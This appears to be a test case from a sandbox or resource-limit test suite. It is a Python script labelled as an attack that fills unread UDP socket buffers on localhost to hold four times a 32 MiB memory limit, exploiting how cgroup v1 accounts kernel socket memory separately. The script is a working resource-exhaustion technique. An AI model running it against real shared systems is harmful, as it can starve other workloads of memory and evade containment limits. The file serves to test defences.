# /// attack
# guarantee = "memory"
# summary = "Leaves datagrams in UDP sockets that nobody reads: control groups of version 1 count them apart."
# reference = "udp(7), cgroup-v1/memory.rst: memory.kmem.tcp.limit_in_bytes"
# success = "four times the limit lies in buffers"
# policy = { limits = { memory = "32MiB", open_files = 4096 } }
# refusal = { process = "denied EACCES", default = "limit memory" }
# ///

import socket
import time

from kit import attempt, succeeded


def held():
    with open("/proc/self/net/udp") as file:
        return sum(int(line.split()[4].split(":")[1], 16) for line in list(file)[1:])


kept = []
deadline = time.monotonic() + 8
while held() < 128 << 20 and time.monotonic() < deadline and len(kept) < 4000:
    reader = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    reader.bind(("127.0.0.1", 0))
    writer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    kept += [reader, writer]
    for _ in range(8):
        writer.sendto(b"x" * 32768, reader.getsockname())
time.sleep(0.5)
if held() >= 128 << 20:
    succeeded(held())
